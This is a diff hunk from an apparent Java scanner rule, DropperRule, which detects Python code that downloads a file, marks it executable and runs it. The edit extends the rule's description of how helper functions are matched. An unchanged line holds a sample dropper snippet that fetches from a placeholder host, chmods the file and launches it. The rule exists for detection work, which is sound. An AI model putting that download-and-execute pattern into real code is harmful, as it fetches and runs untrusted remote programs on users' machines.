@@ -32,7 +32,9 @@ public final class DropperRule implements PythonFileRule {
             "data = urlopen('https://cdn.example.invalid/p').read(); open(p, 'wb').write(data); os.chmod(p, 0o755); subprocess.Popen([p])",
             "Build scripts that fetch and unpack sources run constant build tools (tar, make, cmake, unzip, git, "
                     + "pip); those process calls are not counted. Binary-tool installers (drivers, CLIs) that download "
-                    + "and chmod a file match at medium weight when the run happens elsewhere in the file.");
+                    + "and chmod a file match at medium weight when the run happens elsewhere in the file; helpers of the "
+                    + "same file count as one function (HIGH/MEDIUM) only when one caller hands the same path or "
+                    + "variable to the downloading helper and to the helper that runs a computed program.");
 
     private static final Set<String> BUILD_TOOLS = Set.of("tar", "make", "cmake", "unzip", "gzip", "git", "pip",
             "pip3", "python", "python3", "sys.executable", "gcc", "cc", "g++", "configure", "./configure", "ninja",
